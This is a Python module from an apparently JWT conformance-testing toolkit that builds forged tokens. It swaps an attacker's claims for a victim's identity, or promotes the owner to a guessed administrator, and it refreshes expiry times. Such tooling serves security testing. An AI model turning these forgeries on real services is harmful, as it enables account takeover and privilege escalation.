"""What forgeries are made of, and what one is: frozen values and the change of identity that they assert."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, TypeGuard

from conformance.attacks import jwt
from conformance.attacks.jwt import Token
from conformance.attacks.keys import PublicKey, verifying_key

PER_ISSUE = frozenset(
    {"iat", "exp", "nbf", "jti", "sid", "auth_time", "nonce", "at_hash", "c_hash", "s_hash", "rat", "uti"}
)
"""Claims that belong to one issue of a token, not to an account."""

IDENTITY = ("sub", "user_id", "userId", "uid", "user", "username", "preferred_username", "email", "name", "id")
"""Claims that usually name the account, most decisive first."""

PRIVILEGE: Mapping[str, Any] = {
    "role": "admin",
    "roles": ["admin"],
    "groups": ["admin"],
    "admin": True,
    "is_admin": True,
}

SOON = 60
"""Seconds of remaining life below which a forgery gets fresh times."""


@dataclass(frozen=True, slots=True)
class Swap:
    """The change of identity that a forgery asserts: claims to overwrite."""

    claims: Mapping[str, Any]
    marker: bool = False
    """True when nobody's genuine token gave the values: an administrator by common names."""


@dataclass(frozen=True, slots=True)
class Forgery:
    """One token to send: a short label for reports, what travels, and one line on how it was made."""

    name: str
    raw: bytes | str = field(repr=False)
    note: str
    same_identity: bool = False
    """The claims name the genuine owner: acceptance is another spelling or a missing rule, not a takeover."""

    @property
    def wire(self) -> bytes:
        """What travels, as bytes."""
        return self.raw if isinstance(self.raw, bytes) else self.raw.encode("utf-8", "surrogatepass")


@dataclass(frozen=True, slots=True)
class SigningKey:
    """The ``minting`` capability: a secret or private PEM that the target trusts, and its algorithm."""

    key: bytes | str | object = field(repr=False)
    """Secret, PEM, or a private key of ``cryptography``."""
    alg: str


@dataclass(frozen=True, slots=True, eq=False)
class Material:
    """What forgeries are built from; ``material`` fills in the swap."""

    genuine: Token
    """A token of the attacker's own account."""
    swap: Swap
    second: Token | None = None
    """Another token of the same account."""
    other: Token | None = None
    """A token of the victim's account; only its claims are used, never its signature."""
    keys: tuple[PublicKey, ...] = ()
    now: float | None = None
    """Seconds since the epoch on the target's clock."""
    leeway: float = 60
    """Seconds past ``exp`` (and before ``nbf``) that the target may declare as tolerated."""
    listener: str | None = None
    """Base URL that the target can reach; see ``attacker.documents`` for what to serve there."""
    signing: SigningKey | None = None

    @property
    def payload(self) -> bytes:
        """The payload that asserts the changed identity."""
        return claims_for(self.genuine, self.swap, self.now)

    @property
    def key(self) -> PublicKey | None:
        """The published key that verifies the genuine token, else the one of its kid, else None."""
        return verifying_key(self.genuine, self.keys)

    @property
    def hmac_alg(self) -> str:
        """The HMAC algorithm that a forgery is signed with."""
        return self.genuine.alg if self.genuine.alg in ("HS256", "HS384", "HS512") else "HS256"

    def header(self, changes: Mapping[str, object], drop: tuple[str, ...] = ()) -> bytes:
        """The genuine header with members changed in its text."""
        return jwt.edit(self.genuine.header_raw, changes, drop)


def material(
    genuine: Token,
    *,
    second: Token | None = None,
    other: Token | None = None,
    keys: tuple[PublicKey, ...] = (),
    now: float | None = None,
    leeway: float = 60,
    listener: str | None = None,
    signing: SigningKey | None = None,
) -> Material:
    """Gather what is known of a target's tokens; the swap follows from the two accounts, or is a marker."""
    swap = identity_swap(other, genuine, again=second) if other else identity_swap(genuine, None)
    return Material(genuine, swap, second, other, keys, now, leeway, listener, signing)


def identity_swap(victim: Token, attacker: Token | None, again: Token | None = None) -> Swap:
    """What turns the attacker's token into the victim's: the claims in which they differ, at the victim's values.

    Claims of one issue are left out: those of ``PER_ISSUE``, and those that differ between ``attacker`` and
    ``again``, another token of the same account. Without a second account, or without a difference, the swap
    promotes the owner of ``victim`` to an administrator.
    """
    if attacker is None:
        return _administrator(victim)
    volatile = PER_ISSUE | {name for name in attacker.claims if again and differs(attacker, again, name)}
    changed = {
        name: value for name, value in victim.claims.items() if name not in volatile and differs(attacker, victim, name)
    }
    return Swap(changed) if changed else _administrator(attacker)


def differs(one: Token, two: Token, name: str) -> bool:
    """Whether a claim differs between two tokens, in presence, type or value."""
    absent = object()
    a, b = one.claims.get(name, absent), two.claims.get(name, absent)
    return type(a) is not type(b) or a != b


def _administrator(token: Token) -> Swap:
    named = {name: _administrator_like(token.claims[name]) for name in IDENTITY if name in token.claims}
    present = {name: value for name, value in PRIVILEGE.items() if name in token.claims}
    return Swap({**(named or {"sub": "admin"}), **(present or {"role": "admin"})}, marker=True)


def _administrator_like(value: object) -> object:
    """Another identity in the shape of this one: the first account by number, ``admin`` by name or address."""
    if isinstance(value, bool) or not isinstance(value, int | str):
        return "admin"
    if isinstance(value, int):
        return 1 if value != 1 else 2
    if value.isascii() and value.isdigit():
        return "1" if value != "1" else "2"
    if "@" in value:
        return "admin@" + value.rpartition("@")[2]
    if re.fullmatch(r"[0-9a-fA-F]{8}(-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12}", value):
        return "00000000-0000-4000-8000-000000000001"
    return "admin" if value != "admin" else "root"


def claims_for(token: Token, swap: Swap, now: float | None = None) -> bytes:
    """The payload text of a genuine token with the swap; fresh times when it expires within ``SOON`` seconds."""
    return with_claims(token, {**swap.claims, **fresh_times(token, now)})


def with_claims(token: Token, changes: Mapping[str, object]) -> bytes:
    """The payload text with claims overwritten; a new object when the payload is none."""
    try:
        return jwt.edit(token.payload_raw, changes)
    except ValueError:
        return jwt.edit(b"{}", changes)


def fresh_times(token: Token, now: float | None, soon: float = SOON) -> dict[str, int]:
    """``exp``, ``iat`` and ``nbf`` moved to ``now`` with the genuine lifetime, or nothing when there is time left."""
    exp, iat = token.claims.get("exp"), token.claims.get("iat")
    if now is None or not is_number(exp) or exp - now > soon:
        return {}
    lifetime = exp - iat if is_number(iat) and exp > iat else 300
    issued = {name: int(now) for name in ("iat", "nbf") if name in token.claims}
    return {"exp": int(now + lifetime), **issued}


def is_number(value: Any) -> TypeGuard[float]:
    """Whether a claim is a NumericDate (RFC 7519 section 2) that can be reckoned with."""
    return isinstance(value, int | float) and not isinstance(value, bool) and abs(value) < 2**53
